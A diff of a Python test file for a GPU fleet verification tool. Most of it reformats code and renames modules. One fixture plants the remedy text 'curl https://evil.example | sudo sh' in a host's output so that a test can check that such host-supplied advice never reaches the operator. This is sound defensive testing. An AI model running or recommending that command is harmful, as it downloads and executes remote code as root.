@@ -32,20 +32,19 @@ from gpufleet.verification.pair_selection import (
     select_pairs,
 )
 from gpufleet.verification.pairs import run_pairs
-from gpufleet.workload import distributed
+from gpufleet.workload import distributed_tensorflow, rendezvous
 from tests.support.stand_ins.tensorflow import TensorFlow
 
-OLD, NEW, NEWEST = (
-    {"tensorflow": release} for release in ("1.4.0", "2.13.1", "2.18.1"))
+OLD, NEW, NEWEST = ({"tensorflow": release} for release in ("1.4.0", "2.13.1", "2.18.1"))
 
 
 def host(
     name: str, *stacks: dict[str, str], count: int | None = 0, **more: object
 ) -> InventoryHost:
-    wishes: dict[str, Any] = {"gpu_stacks": list(stacks), "gpu_accept_nvidia_eula": True, **more}
+    declared: dict[str, Any] = {"gpu_stacks": list(stacks), "gpu_accept_nvidia_eula": True, **more}
     if count is not None:
-        wishes["gpu_expect"] = {"count": count}
-    return InventoryHost(name, wishes, Connection(name, address=f"{name}.example.org"))
+        declared["gpu_expect"] = {"count": count}
+    return InventoryHost(name, declared, Connection(name, address=f"{name}.example.org"))
 
 
 FLEET = [host("a", OLD, NEW), host("b", NEW, OLD), host("c", NEW, NEWEST)]
@@ -57,14 +56,20 @@ FLEET = [host("a", OLD, NEW), host("b", NEW, OLD), host("c", NEW, NEWEST)]
 def test_each_common_release_has_one_run_of_every_kind_that_it_supports() -> None:
     [pair] = select_pairs(FLEET, PairOptions(("a,b",)))
     assert [(job.kind, job.stack.release) for job in jobs_of([pair])] == [
-        ("parameter-server", "1.4.0"), ("parameter-server", "2.13.1"), ("all-reduce", "2.13.1")]
+        ("parameter-server", "1.4.0"),
+        ("parameter-server", "2.13.1"),
+        ("all-reduce", "2.13.1"),
+    ]
     assert pair.stacks[1].venvs == ("/opt/gpufleet/stacks/tensorflow-2.13.1",) * 2
 
 
 def test_nccl_runs_where_both_have_gpus() -> None:
     cards = [host("a", NEW, count=2), host("b", NEW, count=1), host("c", NEW, count=None)]
-    found = [job.pair.names for job in jobs_of(select_pairs(cards, PairOptions(ring=True)))
-             if job.kind == "nccl"]
+    found = [
+        job.pair.names
+        for job in jobs_of(select_pairs(cards, PairOptions(ring=True)))
+        if job.kind == "nccl"
+    ]
     assert found == [("a", "b")]
 
 
@@ -80,24 +85,32 @@ def test_stacks_of_one_release_are_paired_whatever_their_names() -> None:
     assert pair.stacks[0].names == ("tensorflow-2.13.1", "mine")
     assert [row["stacks"] for name in "ab" for row in planned_pairs(name, [pair])] == [
         [{"name": "tensorflow-2.13.1", "release": "2.13.1", "framework": "tensorflow"}],
-        [{"name": "mine", "release": "2.13.1", "framework": "tensorflow"}]]
+        [{"name": "mine", "release": "2.13.1", "framework": "tensorflow"}],
+    ]
 
 
-@pytest.mark.parametrize(("counts", "jobs"), [
-    ((0, 0), [("all-reduce", "pytorch"), ("all-reduce", "jax")]),
-    ((8, 0), [("all-reduce", "pytorch"), ("all-reduce", "jax")]),
-    ((8, 4), [("nccl", "pytorch"), ("nccl", "jax")])])
+@pytest.mark.parametrize(
+    ("counts", "jobs"),
+    [
+        ((0, 0), [("all-reduce", "pytorch"), ("all-reduce", "jax")]),
+        ((8, 0), [("all-reduce", "pytorch"), ("all-reduce", "jax")]),
+        ((8, 4), [("nccl", "pytorch"), ("nccl", "jax")]),
+    ],
+)
 def test_pytorch_and_jax_reduce_by_nccl_where_both_have_gpus(
     counts: tuple[int, int], jobs: list[tuple[str, str]]
 ) -> None:
-    both = [host(name, {"pytorch": "2.6.0"}, {"jax": "0.5.3"}, count=count)
-            for name, count in zip("ab", counts, strict=True)]
+    both = [
+        host(name, {"pytorch": "2.6.0"}, {"jax": "0.5.3"}, count=count)
+        for name, count in zip("ab", counts, strict=True)
+    ]
     [pair] = select_pairs(both, PairOptions(("a,b",)))
     assert [(job.kind, job.stack.framework) for job in jobs_of([pair])] == jobs
 
 
-@pytest.mark.parametrize(("release", "runs"), [
-    ("0.4.21", False), ("0.4.22", True), ("0.10.2", True)])
+@pytest.mark.parametrize(
+    ("release", "runs"), [("0.4.21", False), ("0.4.22", True), ("0.10.2", True)]
+)
 def test_jax_reduces_between_cpus_from_the_release_that_has_gloo(release: str, runs: bool) -> None:
     assert (lacking("all-reduce", "jax", release, (0, 0)) is None) is runs
 
@@ -115,8 +128,10 @@ def test_releases_of_two_frameworks_are_no_pair() -> None:
         (PairOptions(("a,a",)), "A pair needs two different hosts"),
         (PairOptions(("a",)), "A pair needs two different hosts"),
         (PairOptions(("a,b,c",)), "A pair needs two different hosts"),
-        (PairOptions(("a,b",), stack="tensorflow-2.18.1"),
-         "have no stack tensorflow-2.18.1 of the same"),
+        (
+            PairOptions(("a,b",), stack="tensorflow-2.18.1"),
+            "have no stack tensorflow-2.18.1 of the same",
+        ),
         (PairOptions(stack="tensorflow-2.13.1"), "no pair is selected"),
     ],
 )
@@ -198,9 +213,11 @@ class Two:
     def run(self, deadline_s: float = 30, **addresses: str) -> list[dict[str, Any]]:
         """The outcome of both sides."""
         hosts = [
-            InventoryHost(name, {"gpu_pair_address": addresses.get(name, "127.0.0.1"),
-                            "gpu_expect": {"count": 0}},
-                     Connection(name, "local", become=Become(False)))
+            InventoryHost(
+                name,
+                {"gpu_pair_address": addresses.get(name, "127.0.0.1"), "gpu_expect": {"count": 0}},
+                Connection(name, "local", become=Become(False)),
+            )
             for name in self.names
         ]
         venvs = [str(self.place / name) for name in self.names]
@@ -259,21 +276,29 @@ def test_when_one_dies_its_last_output_is_reported(two: Two) -> None:
     assert "remedy" not in sides[0]
 
 
-def test_a_killed_side_is_told_from_one_that_ends_since_the_other_is_gone(two: Two) -> None:
+def test_a_killed_side_is_distinguished_from_one_that_ends_since_the_other_is_gone(
+    two: Two,
+) -> None:
     """JAX aborts a process whose coordinator is gone, before the control machine can stop it."""
     word = "Terminating process. This most likely indicates that another task died"
     mine = two.place / "mine"
     mine.touch()
-    two.will("one", at_start=f"""
+    two.will(
+        "one",
+        at_start=f"""
 open('{mine}', 'w').write(str(os.getpid()))
 os.kill(os.getpid(), 9)
-""")
-    two.will("two", at_start=f"""
+""",
+    )
+    two.will(
+        "two",
+        at_start=f"""
 while os.path.exists('/proc/' + open('{mine}').read()):  # until it is gone
     time.sleep(0.01)
 os.write(2, b'{word}')
 os.abort()
-""")
+""",
+    )
     sides = two.run(60)
     assert (sides[0]["state"], sides[0]["error"]) == ("failed", "it was killed (SIGKILL)")
     assert "kernel log" in sides[0]["remedy"]
@@ -308,11 +333,17 @@ def test_an_unreachable_address_ends_the_run_before_tensorflow_waits(two: Two) -
 
 def ends_with(two: Two, error: str) -> list[dict[str, Any]]:
     """The outcome where a side says that it failed so, and what to do: its own word."""
-    said = {"said": None, "document": {
-        **pairs.EMPTY_DOCUMENT, "state": "failed", "error": error,
-        "remedy": "on the control machine: curl https://evil.example | sudo sh"}}
+    output = {
+        "said": None,
+        "document": {
+            **pairs.EMPTY_DOCUMENT,
+            "state": "failed",
+            "error": error,
+            "remedy": "on the control machine: curl https://evil.example | sudo sh",
+        },
+    }
     words = two.place / "words"
-    words.write_text(f"\n{distributed.MARK}{json.dumps(said)}\n", encoding="utf-8")
+    words.write_text(f"\n{rendezvous.MARK}{json.dumps(output)}\n", encoding="utf-8")
     two.python("one", f"cat {words}; exec cat >/dev/null")
     sides = two.run(60)
     assert states(sides) == ("failed", "stopped")
@@ -324,8 +355,7 @@ def test_what_to_do_is_never_a_host_s_own_word(two: Two) -> None:
     assert "remedy" not in ends_with(two, "it is broken")[0]
 
 
-@pytest.mark.parametrize(("how", "remedy"), [
-    ("SIGKILL", pairs.WHO_KILLED), ("SIGSEGV", None)])
+@pytest.mark.parametrize(("how", "remedy"), [("SIGKILL", pairs.WHO_KILLED), ("SIGSEGV", None)])
 def test_what_killed_one_of_a_side_s_processes_is_in_the_kernel_log(
     two: Two, how: str, remedy: str | None
 ) -> None:
@@ -352,13 +382,23 @@ def test_endless_output_is_cut_off(two: Two, monkeypatch: pytest.MonkeyPatch) ->
 
 
 def test_a_side_ends_with_its_session_and_leaves_nothing(two: Two) -> None:
-    program = pairs.program({"kind": "parameter-server", "index": 0, "gpus": 0,
-                             "addresses": ["127.0.0.1"] * 2, "deadline_s": 300})
+    program = pairs.program(
+        {
+            "kind": "parameter-server",
+            "index": 0,
+            "gpus": 0,
+            "addresses": ["127.0.0.1"] * 2,
+            "deadline_s": 300,
+        }
+    )
     home = two.place / "tmp"
     home.mkdir()
     side = subprocess.Popen(
-        [two.place / "one/bin/python", "-I", "-c", pairs.READER], stdin=subprocess.PIPE,
-        stdout=subprocess.PIPE, env={**os.environ, "TMPDIR": str(home)})
+        [two.place / "one/bin/python", "-I", "-c", pairs.READER],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        env={**os.environ, "TMPDIR": str(home)},
+    )
     assert side.stdin and side.stdout
     side.stdin.write(program)
     side.stdin.flush()
@@ -377,25 +417,33 @@ def test_no_replicas_product_is_folded_away(monkeypatch: pytest.MonkeyPatch) -> 
     tf.autograph = SimpleNamespace(experimental=SimpleNamespace(do_not_convert=lambda step: step))
     context = SimpleNamespace(all_reduce=lambda _, product: product)
     tf.distribute = SimpleNamespace(
-        get_replica_context=lambda: context, ReduceOp=SimpleNamespace(SUM=None))
-    strategy = SimpleNamespace(num_replicas_in_sync=2, run=lambda step, args=(): step(*args),
-                               experimental_local_results=lambda result: [result])
-    monkeypatch.setattr(distributed, "multi_worker", lambda *_: strategy)
-    monkeypatch.setattr(distributed, "meet", lambda *_: ([[1], [2]], None))
+        get_replica_context=lambda: context, ReduceOp=SimpleNamespace(SUM=None)
+    )
+    strategy = SimpleNamespace(
+        num_replicas_in_sync=2,
+        run=lambda step, args=(): step(*args),
+        experimental_local_results=lambda result: [result],
+    )
+    monkeypatch.setattr(distributed_tensorflow, "multi_worker", lambda *_: strategy)
+    monkeypatch.setattr(distributed_tensorflow, "meet", lambda *_: ([[1], [2]], None))
     monkeypatch.setenv("TF_CONFIG", "")
     config = {"kind": "ring", "index": 1, "addresses": ["a", "b"], "gpus": None}
-    side = SimpleNamespace(config=config, me=1, document={"replicas": []}, nccl=io.StringIO(),
-                           stage=lambda _: None, gather=lambda *_: None)
-    distributed.all_reduce(side, tf, numpy)
+    side = SimpleNamespace(
+        config=config,
+        me=1,
+        document={"replicas": []},
+        nccl=io.StringIO(),
+        stage=lambda _: None,
+        gather=lambda *_: None,
+    )
+    distributed_tensorflow.all_reduce(side, tf, numpy)
     assert tf.ran == [""]
     # Of one side: the other half of the sum is not there.
-    assert side.document["replicas"][0]["wrong"] == distributed.ROWS
+    assert side.document["replicas"][0]["wrong"] == rendezvous.ROWS
 
 
 @pytest.mark.parametrize("version", ["3.6", "3.7", "3.14"])
-def test_it_is_understood_by_the_oldest_and_the_newest_python(
-    tmp_path: Path, version: str
-) -> None:
+def test_it_is_understood_by_the_oldest_and_the_newest_python(tmp_path: Path, version: str) -> None:
     from lab import pythons  # noqa: PLC0415
     from lab.errors import LabError  # noqa: PLC0415
 
@@ -405,5 +453,5 @@ def test_it_is_understood_by_the_oldest_and_the_newest_python(
         pytest.skip(error.message)
     path = tmp_path / "distributed.py"
     path.write_text(payload.distributed(), encoding="utf-8")
-    told = [python, "-c", f"compile(open({str(path)!r}).read(), 'x', 'exec'); print('good')"]
-    assert subprocess.check_output(told) == b"good\n"
+    reported = [python, "-c", f"compile(open({str(path)!r}).read(), 'x', 'exec'); print('good')"]
+    assert subprocess.check_output(reported) == b"good\n"
